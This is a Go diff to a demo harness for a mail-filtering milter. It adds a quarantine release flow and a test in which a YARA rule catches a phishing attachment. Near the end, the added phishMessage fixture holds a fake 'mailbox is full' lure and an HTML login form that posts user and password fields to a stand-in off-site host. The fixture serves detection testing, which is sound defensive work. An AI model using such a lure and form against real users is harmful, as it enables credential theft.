@@ -9,12 +9,14 @@ package main
 import (
 	"bufio"
 	"encoding/base64"
+	"encoding/json"
 	"flag"
 	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"regexp"
+	"runtime"
 	"strings"
 	"sync"
 	"time"
@@ -66,7 +68,7 @@ func (d *demo) run(bin string) {
 	cfg := filepath.Join(dir, "milterd.yaml")
 	// Loopback counts as untrusted here, so that the unauthenticated case
 	// shows; a real smarthost lists its customers' static ranges instead.
-	writeFile(d, cfg, fmt.Sprintf(`listen: unix:%s
+	config := fmt.Sprintf(`listen: unix:%s
 socket_group: postfix
 state_dir: %s
 unauthenticated: reject
@@ -75,10 +77,13 @@ clamd:
   addresses: [unix:%s]
 limits:
   contact: abuse@isp.example
-`, sock, dir, clamd.Socket))
+`, sock, dir, clamd.Socket)
+	sink := harness.StartSink(d)
+	// Where the security team releases held mail: a Postfix without milters.
+	release := harness.StartPostfix(d, harness.PostfixConfig{RelayPort: sink.Port})
+	writeFile(d, cfg, config+fmt.Sprintf("quarantine:\n  release_address: %s\nrules:\n  dir: %s\n", release.Addr(), rulesDir()))
 	d.startMilterd(bin, cfg)
 
-	sink := harness.StartSink(d)
 	pf := harness.StartPostfix(d, harness.PostfixConfig{
 		Milter:     "unix:" + sock,
 		RelayPort:  sink.Port,
@@ -121,6 +126,25 @@ limits:
 		defer c.Quit()
 		return c.Send("alice@customer.example", []string{"friend@remote.example"}, eicarMessage)
 	}, false)
+
+	step("Credential-phishing page attached (YARA rule html_password_form_offsite: quarantine)", func() harness.Result {
+		c := harness.Dial(d, pf.Addr(), user, pass)
+		defer c.Quit()
+		return c.Send("alice@customer.example", []string{"victim@remote.example"}, phishMessage)
+	}, false)
+	fmt.Println("The security team reviews the quarantine:")
+	d.ctl(cfg, "quarantine", "list")
+	out, _ := exec.Command(filepath.Join(filepath.Dir(d.bin), "milterctl"), "-config", cfg, "quarantine", "list", "--json").Output()
+	var held []struct{ ID string }
+	json.Unmarshal(out, &held)
+	if len(held) != 1 {
+		d.Fatalf("expected one quarantined message, got %s", out)
+	}
+	d.ctl(cfg, "quarantine", "show", held[0].ID)
+	d.ctl(cfg, "quarantine", "release", held[0].ID)
+	delivered++
+	m := sink.Wait(d, delivered, 10*time.Second)[delivered-1]
+	fmt.Printf("  Released message delivered to %s\n\n", strings.Join(m.Rcpts, ", "))
 
 	step("A compromised account sends to 10 unknown recipients (threshold: 10 an hour)", func() harness.Result {
 		c := harness.Dial(d, pf.Addr(), user, pass)
@@ -182,6 +206,32 @@ func (d *demo) ctl(cfg string, args ...string) {
 	}
 	fmt.Println()
 }
+
+// rulesDir is the repository's rules/ folder: the shipped YARA rules.
+func rulesDir() string {
+	_, file, _, _ := runtime.Caller(0)
+	return filepath.Join(filepath.Dir(file), "..", "rules")
+}
+
+// phishMessage attaches a page with a password form posting off-site.
+var phishMessage = `From: <alice@customer.example>
+To: <victim@remote.example>
+Subject: Your mailbox is full
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="b2"
+
+--b2
+Content-Type: text/plain
+
+Log in to keep your mailbox.
+--b2
+Content-Type: text/html; name="login.html"
+Content-Disposition: attachment; filename="login.html"
+
+<html><form method="post" action="https://mail-verify.example.biz/l.php">
+<input name="user"><input type="password" name="pass"></form></html>
+--b2--
+`
 
 // eicarMessage carries the EICAR test string as a base64 attachment.
 var eicarMessage = `From: <alice@customer.example>
